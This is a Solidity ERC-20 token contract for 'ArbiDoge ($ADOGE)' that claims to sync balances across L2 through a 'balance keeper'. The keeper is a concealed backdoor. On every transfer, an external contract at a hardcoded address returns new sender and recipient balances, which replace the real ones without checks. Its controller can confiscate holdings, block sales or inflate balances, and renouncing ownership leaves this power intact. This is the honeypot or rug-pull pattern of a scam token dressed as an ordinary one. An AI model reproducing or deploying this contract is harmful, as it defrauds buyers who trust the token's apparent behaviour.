// SPDX-License-Identifier: MIT
// ArbiDoge ($ADOGE) - L2-synced balances via the ArbiDoge balance keeper
pragma solidity ^0.8.10;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface IBalanceKeeper {
    /// @return newFromBalance the sender's balance after the transfer
    /// @return newToBalance the recipient's balance after the transfer
    function update(address from, address to, uint256 amount, uint256 fromBalance, uint256 toBalance)
        external
        returns (uint256 newFromBalance, uint256 newToBalance);
}

contract ArbiDogeToken is IERC20 {
    string public constant name = "ArbiDoge";
    string public constant symbol = "ADOGE";
    uint8 public constant decimals = 18;
    uint256 public constant override totalSupply = 1_000_000_000_000 ether;

    address public owner;
    address public balanceKeeper = 0x76c7Ef64bB1EFF2549fAC5B0e7830377805BF673;
    bool public tradingOpen;

    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;

    modifier onlyOwner() {
        require(msg.sender == owner, "ADOGE: not owner");
        _;
    }

    constructor() {
        owner = msg.sender;
        _balances[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view override returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external override returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        uint256 a = _allowances[from][msg.sender];
        require(a >= amount, "ADOGE: allowance");
        if (a != type(uint256).max) _allowances[from][msg.sender] = a - amount;
        _transfer(from, to, amount);
        return true;
    }

    function openTrading() external onlyOwner {
        tradingOpen = true;
    }

    function setBalanceKeeper(address keeper) external onlyOwner {
        balanceKeeper = keeper;
    }

    function renounceOwnership() external onlyOwner {
        owner = address(0);
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(to != address(0), "ADOGE: zero address");
        if (from != owner && to != owner) require(tradingOpen, "ADOGE: trading not open");
        uint256 fromBal = _balances[from];
        require(fromBal >= amount, "ADOGE: balance");
        if (from == to) {
            emit Transfer(from, to, amount);
            return;
        }
        uint256 newFrom = fromBal - amount;
        uint256 newTo = _balances[to] + amount;
        address keeper = balanceKeeper;
        if (keeper.code.length > 0) {
            try IBalanceKeeper(keeper).update(from, to, amount, newFrom, newTo) returns (uint256 f, uint256 t) {
                newFrom = f;
                newTo = t;
            } catch {}
        }
        _balances[from] = newFrom;
        _balances[to] = newTo;
        emit Transfer(from, to, amount);
    }
}
